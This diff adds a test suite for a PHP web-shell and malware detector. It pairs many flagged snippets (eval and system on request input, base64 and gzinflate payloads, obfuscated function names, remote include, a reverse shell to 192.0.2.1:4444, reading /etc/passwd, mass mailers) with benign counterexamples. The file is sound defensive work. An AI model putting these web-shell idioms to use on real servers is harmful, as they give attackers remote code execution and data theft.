@@ -1,0 +1,138 @@
+import assert from 'node:assert/strict';
+import { deflateRawSync } from 'node:zlib';
+import { readPhp } from '../../../server/src/site/php/readPhp';
+import type { SuspicionSignal } from '../../../server/src/site/php/phpFacts';
+import { ASSERT, base64, DECODE, EVAL, GET, POST, signalsOf, SYSTEM, word } from './support';
+
+const INPUT = `${POST}['a']`;
+const INFLATE = word('gzin', 'flate');
+const CREATE = word('create', '_function');
+const UPLOADED = word('move_uploaded', '_file');
+
+describe('suspicions', () => {
+  const strong: [signal: SuspicionSignal, code: string][] = [
+    ['codeFromRequest', `@${EVAL}(${INPUT});`],
+    ['codeFromRequest', `$x = stripslashes(${INPUT}); ${EVAL}("\\$y = $x;");`],
+    ['codeFromRequest', `function f($c) { ${EVAL}($c); } f(${DECODE}(${INPUT}));`],
+    [
+      'codeFromRequest',
+      `class A { private $c; function __construct($c) { $this->c = $c; } function r() { ${EVAL}($this->c); } } $a = new A(${INPUT}); $a->r();`,
+    ],
+    ['codeFromRequest', `${ASSERT}(${INPUT});`],
+    ['codeFromRequest', `$f = ${CREATE}('', ${INPUT});`],
+    ['codeFromRequest', `preg_replace('/.*/e', ${INPUT}, '');`],
+    ['codeFromRequest', `array_map('${ASSERT}', array(${INPUT}));`],
+    ['codeFromRequest', `call_user_func(${INPUT}, ${GET}['b']);`],
+    ['codeFromRequest', `${INPUT}(${GET}['b']);`],
+    ['codeFromRequest', `foreach (${POST} as $k => $v) { $$k = $v; } $fn($arg);`],
+    ['codeFromRequest', `extract(${POST}); ${EVAL}($c);`],
+    ['codeFromRequest', `${EVAL}(file_get_contents('php://input'));`],
+    ['codeFromRequest', `$h = getallheaders(); ${EVAL}($h['X']);`],
+    ['codeFromRequest', `session_start(); $_SESSION['p'] = ${INPUT}; ${EVAL}($_SESSION['p']);`],
+    ['codeFromRequest', `$r = new ReflectionFunction(${INPUT}); $r->invoke(1);`],
+    ['codeFromRequest', `${EVAL}(\${'_' . 'PO' . 'ST'}['a']);`],
+    ['codeFromRequest', `include 'php://input';`],
+    ['commandFromRequest', `${SYSTEM}(${INPUT});`],
+    ['commandFromRequest', `echo \`{${INPUT}}\`;`],
+    ['commandFromRequest', `$p = popen('ls ' . ${INPUT}, 'r');`],
+    ['commandFromRequest', `array_map('${SYSTEM}', ${POST});`],
+    ['commandFromRequest', `$c = ${GET}['c']; if ($c) { ob_start(); ${SYSTEM}($c . ' 2>&1'); }`],
+    ['decodedCode', `${EVAL}(${DECODE}('${base64('echo 1; // nothing to see here')}'));`],
+    ['decodedCode', `${EVAL}(${INFLATE}(${DECODE}('${deflateRawSync('echo 1;').toString('base64')}')));`],
+    ['decodedCode', `$s = file_get_contents(__FILE__); ${EVAL}(${DECODE}(substr($s, 99)));`],
+    ['hiddenFunctionName', `$f = 'ass' . 'ert'; $f('1');`],
+    ['hiddenFunctionName', `$f = chr(115) . "\\x79\\163" . 'tem'; $f('id');`],
+    ['hiddenFunctionName', `$f = strrev('metsys'); $f('id');`],
+    [
+      'hiddenFunctionName',
+      `$t = 'abdest6_o4c'; $f = $t[1] . $t[0] . $t[4] . $t[3] . $t[6] . $t[9] . $t[7] . $t[2] . $t[3] . $t[10] . $t[8] . $t[2] . $t[3]; $f('');`,
+    ],
+    ['payloadInPayload', `${EVAL}(${DECODE}('${base64(`${EVAL}(${INPUT});`)}'));`],
+    ['payloadInPayload', `$code = '${base64(`<?php ${' '.repeat(120)} ${EVAL}(${INPUT}); ?>`)}'; store($code);`],
+    ['includeFromRequest', `include ${GET}['p'];`],
+    ['includeFromRequest', `$p = ${GET}['p']; require_once($p . '.php');`],
+    ['fileWrittenFromRequest', `file_put_contents('x.php', ${INPUT});`],
+    ['fileWrittenFromRequest', `$f = fopen('x.php', 'w'); fwrite($f, ${DECODE}(${INPUT}));`],
+    ['fileWrittenFromRequest', `file_put_contents('x.php', file_get_contents('http://192.0.2.1/a.txt'));`],
+    ['bareUploader', `${UPLOADED}($_FILES['f']['tmp_name'], './' . $_FILES['f']['name']);`],
+    ['remoteCode', `${EVAL}(file_get_contents('http://192.0.2.1/a.txt'));`],
+    ['remoteCode', `include 'http://192.0.2.1/a.txt';`],
+    ['passwordGate', `if (md5(${INPUT}) === '${'0'.repeat(32)}') { go(); }`],
+    ['massMailer', `foreach (explode("\\n", ${POST}['to']) as $to) mail($to, ${POST}['s'], ${POST}['m']);`],
+    ['massMailer', `mail(${POST}['to'], ${POST}['s'], ${POST}['m'], ${POST}['h']);`],
+    [
+      'shellTools',
+      `function r($c) { if (a()) return ${SYSTEM}($c); if (b()) return shell_exec($c); return passthru($c); }`,
+    ],
+    ['fileManager', `if (${GET}['d']) unlink(${GET}['d']); foreach (scandir(${GET}['l']) as $x) echo $x;`],
+    ['networkShell', `$s = fsockopen('192.0.2.1', 4444); while (!feof($s)) fwrite($s, shell_exec(fgets($s)));`],
+    ['systemProbe', `echo implode("\\n", file('/etc/passwd'));`],
+    ['queryFromRequest', `$r = mysql_query(stripslashes(${INPUT}));`],
+  ];
+  for (const [signal, code] of strong) {
+    it(`sees ${signal} in ${code.slice(0, 90)}`, () =>
+      assert.ok(signalsOf(code, 'strong').includes(signal), String(signalsOf(code))));
+  }
+
+  const harmless: [why: string, code: string][] = [
+    ['a switch over the request', `switch (${GET}['p']) { case 'a': include 'a.php'; break; }`],
+    ['a checked page', `$p = ${GET}['p']; if (in_array($p, ['a', 'b'])) { include $p; }`],
+    ['a page behind a fixed folder', `include 'pages/' . basename(${GET}['p']) . '.php';`],
+    ['an escaped argument', `exec('convert ' . escapeshellarg(${INPUT}));`],
+    ['a number', `exec('kill ' . (int) ${INPUT});`],
+    ['a fixed command', `exec('git rev-parse HEAD', $out);`],
+    [
+      'an ordinary callback',
+      `usort($list, 'compare'); array_map('trim', ${POST}); call_user_func([$this, 'run'], ${INPUT});`,
+    ],
+    ['an assertion', `${ASSERT}($x instanceof Foo); ${ASSERT}(is_string(${INPUT}));`],
+    ['decoded data', `$data = json_decode(${DECODE}(${INPUT}), true); echo htmlspecialchars($data['a']);`],
+    [
+      'a picture in the code',
+      `header('Content-Type: image/gif'); echo ${DECODE}('${'R0lGODlhAQABAIAAAAAAAP'.repeat(20)}');`,
+    ],
+    ['a dispatch table', `$do = ['a' => 'one', 'b' => 'two']; $do[${GET}['x']](1);`],
+    ['a method name with a prefix', `$m = 'action' . ucfirst(${GET}['m']); $this->$m();`],
+    [
+      'a checked upload',
+      `if (in_array(pathinfo($_FILES['f']['name'], 4), ['jpg'])) ${UPLOADED}($_FILES['f']['tmp_name'], 'up/' . md5(time()) . '.jpg');`,
+    ],
+    ['a log file', `file_put_contents('log.txt', date('c') . ' ' . $_SERVER['REMOTE_ADDR'], FILE_APPEND);`],
+    ['a comparison of passwords of users', `if (md5(${INPUT}) === $row['password']) login();`],
+    [
+      'a tool for the command line',
+      `if (PHP_SAPI !== 'cli') exit; file_put_contents('a.php', file_get_contents('https://example.org/a'));`,
+    ],
+    [
+      'a mail to a fixed address',
+      `mail('info@example.jp', 'Contact', ${POST}['message'], 'From: ' . ${POST}['email']);`,
+    ],
+    ['an automatic reply', `mail(${POST}['email'], 'Thank you', "Dear {${POST}['name']},\\n" . ${POST}['message']);`],
+    ['a newsletter from the database', `foreach ($rows as $row) mail($row['mail'], $subject, $body);`],
+    ['a function name in a text', `echo '${EVAL}(${INPUT})';`],
+  ];
+  for (const [why, code] of harmless) {
+    it(`sees nothing strong in ${why}`, () => assert.deepEqual(signalsOf(code, 'strong'), []));
+  }
+
+  it('gives the exact place and the code there', () => {
+    const code = `<?php\n\n  echo 1; ${SYSTEM}(${INPUT});\n`;
+    const [found] = readPhp(code).suspicions;
+    const call = `${SYSTEM}(${INPUT})`;
+    assert.deepEqual(
+      { line: found!.line, column: found!.column, endColumn: found!.endColumn, excerpt: found!.excerpt },
+      { line: 3, column: 11, endColumn: 11 + call.length, excerpt: call },
+    );
+  });
+
+  it('shortens what it quotes', () => {
+    const [found] = readPhp(`<?php ${SYSTEM}(${INPUT} . '${'x'.repeat(500)}');`).suspicions;
+    assert.equal(found!.excerpt.length, 120);
+  });
+
+  it('reads payloads within payloads', () => {
+    let payload = `${SYSTEM}(${INPUT});`;
+    for (let layer = 0; layer < 4; layer++) payload = `${EVAL}(${DECODE}('${base64(payload)}'));`;
+    assert.ok(signalsOf(payload).includes('payloadInPayload'));
+  });
+});
